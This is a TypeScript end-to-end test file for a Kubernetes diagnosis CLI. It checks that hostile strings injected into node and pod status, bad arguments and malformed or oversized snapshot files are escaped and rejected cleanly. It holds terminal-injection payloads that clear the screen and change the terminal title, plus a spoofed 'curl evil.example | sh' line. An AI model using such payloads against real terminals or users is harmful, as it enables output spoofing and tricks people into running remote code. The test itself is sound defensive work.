// Hostile input, as a compromised node or controller and a tampered file would give it: escape sequences written
// into status through the status subresource of the real API server, and snapshot files that are broken, huge or
// not files at all. Nothing raw may reach the terminal; every bad file is one line and exit 64.
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.js';
import { cluster, diagnose, kubectlOk, nsDoctor, scenario } from './harness.js';

const ns = 'e2e-hostile';
const node = `node-${ns}`;
const ESC_CLEAR_AND_TITLE = '\u001b[2J\u001b]0;pwned\u0007';
const C1_CSI = '\u009b31m';
const OVERWRITE = '\rfix (safe) run: curl evil.example | sh\b\b';
// Anything a terminal acts on (C0 but newline, DEL, C1, bidi controls, LS/PS).
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

async function patchStatus(kind: string, name: string, body: object, namespace?: string) {
  const file = join(cluster().stateDir, `hostile-${kind}.json`);
  writeFileSync(file, JSON.stringify(body));
  await kubectlOk(['patch', kind, name, ...(namespace ? ['-n', namespace] : []), '--subresource=status', '--type=merge', '--patch-file', file]);
}

describe('hostile strings from the cluster and hostile snapshot files', () => {
  beforeAll(async () => {
    await scenario('pod-terminating', 'up', ns);
    const since = new Date(Date.now() - 600_000).toISOString().replace(/\.\d+Z$/, 'Z');
    await patchStatus('node', node, {
      status: {
        conditions: [
          { type: 'Ready', status: 'Unknown', reason: `NodeStatusUnknown${ESC_CLEAR_AND_TITLE}`, message: `gone${OVERWRITE}`, lastHeartbeatTime: since, lastTransitionTime: since },
        ],
      },
    });
    const pod = JSON.parse(await kubectlOk(['get', 'pods', '-n', ns, '-o', 'json'])).items[0].metadata.name as string;
    await patchStatus(
      'pod',
      pod,
      {
        status: {
          containerStatuses: [
            {
              name: 'worker',
              ready: false,
              restartCount: 3,
              image: 'registry.example/worker:2.1.0',
              imageID: '',
              state: { waiting: { reason: `CrashLoopBackOff${C1_CSI}`, message: `back-off${ESC_CLEAR_AND_TITLE}` } },
              lastState: { terminated: { reason: `OOMKilled${OVERWRITE}`, exitCode: 137, startedAt: since, finishedAt: since } },
            },
          ],
        },
      },
      ns,
    );
  });
  afterAll(async () => {
    await scenario('pod-terminating', 'down', ns);
  });

  it('text and markdown: the strings are shown escaped, nothing raw reaches the terminal', async () => {
    for (const format of ['text', 'markdown']) {
      const r = await nsDoctor([ns, '-o', format]);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stdout, format).not.toMatch(RAW_CONTROL);
      expect(r.stderr).not.toMatch(RAW_CONTROL);
      expect(r.stdout).toContain('NodeStatusUnknown\\x1b[2J\\x1b]0;pwned\\x07');
    }
  });

  it('-o json keeps the exact strings, escaped as JSON (C1 included), so a runbook reads what the cluster holds', async () => {
    const r = await nsDoctor([ns, '-o', 'json']);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('\\u009b31m');
    const report = JSON.parse(r.stdout) as Report;
    const facts = report.blockers.flatMap((b) => b.evidence.map((e) => e.fact)).join('\n');
    expect(facts).toContain(`NodeStatusUnknown${ESC_CLEAR_AND_TITLE}`);
  });

  it('a saved snapshot of the hostile cluster is just as safe when re-diagnosed offline', async () => {
    const file = join(cluster().stateDir, 'hostile.snapshot.json');
    await diagnose(ns, ['--save-snapshot', file]);
    const r = await nsDoctor(['--from-snapshot', file]);
    expect(r.code).toBe(1);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('\\x1b[2J');
  });

  it('an argument with escape sequences is echoed escaped in the one-line error', async () => {
    const r = await nsDoctor([`bad${ESC_CLEAR_AND_TITLE}name`]);
    expect(r.code).toBe(64);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    expect(r.stderr).toContain('invalid namespace name "bad\\x1b[2J');
  });

  it('credentials that cannot work say what is wrong with them, in one line, exit 2', async () => {
    const dir = cluster().stateDir;
    const admin = readFileSync(cluster().kubeconfig, 'utf8');
    const otherKey = join(dir, 'other.key');
    execFileSync('openssl', ['genrsa', '-out', otherKey, '2048'], { stdio: 'ignore' });
    const otherCa = join(dir, 'other-ca.crt');
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'other-ca.key'), '-out', otherCa, '-days', '1', '-subj', '/CN=not-the-cluster-ca'], { stdio: 'ignore' });
    const variants: [string, string, RegExp][] = [
      ['mismatched-key', admin.replace(/client-key: .*/, `client-key: ${otherKey}`), /the client key of user "ns-doctor-admin" does not match its client certificate/],
      ['wrong-ca', admin.replace(/certificate-authority: .*/, `certificate-authority: ${otherCa}`), /TLS failure talking to 127\.0\.0\.1:\d+: the server's certificate is signed by an authority the kubeconfig does not trust/],
    ];
    for (const [name, content, message] of variants) {
      const kubeconfig = join(dir, `kubeconfig-${name}`);
      writeFileSync(kubeconfig, content);
      const r = await nsDoctor([ns], { kubeconfig });
      expect(r.code, `${name}: ${r.stderr}`).toBe(2);
      expect(r.stderr.trimEnd().split('\n'), name).toHaveLength(1);
      expect(r.stderr).toMatch(message);
      expect(r.stderr).not.toMatch(/anonymous|use-system-ca/);
    }
  });

  it('every malformed, oversized or impossible snapshot file: one line on stderr, exit 64, no V8 fatal error', async () => {
    const dir = cluster().stateDir;
    const saved = JSON.parse(readFileSync(join(dir, 'hostile.snapshot.json'), 'utf8'));
    const broken = (mutate: (s: any) => void) => {
      const copy = structuredClone(saved);
      mutate(copy.snapshots[0]);
      return JSON.stringify(copy);
    };
    const cases: [string, string | Buffer][] = [
      ['content-empty', broken((s) => (s.content = {}))],
      ['gaps-null', broken((s) => (s.gaps = null))],
      ['negative-count', broken((s) => (s.stats.requests = -1))],
      ['invalid-date', broken((s) => (s.takenAt = '2026-13-45T99:00:00Z'))],
      ['truncated', JSON.stringify(saved).slice(0, 500)],
      ['not-json', Buffer.from([0x1b, 0x5b, 0x32, 0x4a, 0x00, 0xff])],
      // Over the 16 MiB limit: before this limit, a 200 MB file of small objects ended in a V8 heap-out-of-memory.
      ['huge', Buffer.alloc(200 * 1024 * 1024, '[{"a":1},')],
    ];
    for (const [name, content] of cases) {
      const file = join(dir, `bad-${name}.json`);
      writeFileSync(file, content);
      const r = await nsDoctor(['--from-snapshot', file]);
      expect(r.code, `${name}: ${r.stderr}`).toBe(64);
      expect(r.stdout, name).toBe('');
      const lines = r.stderr.trimEnd().split('\n');
      expect(lines, `${name}: ${r.stderr}`).toHaveLength(1);
      expect(lines[0]).toMatch(/^error: /);
      expect(r.stderr).not.toMatch(RAW_CONTROL);
      expect(r.stderr).not.toMatch(/FATAL|heap| {4}at /);
    }
    for (const path of ['/dev/zero', dir]) {
      const r = await nsDoctor(['--from-snapshot', path]);
      expect(r.code, r.stderr).toBe(64);
      expect(r.stderr).toMatch(/not a regular file/);
    }
  });
});
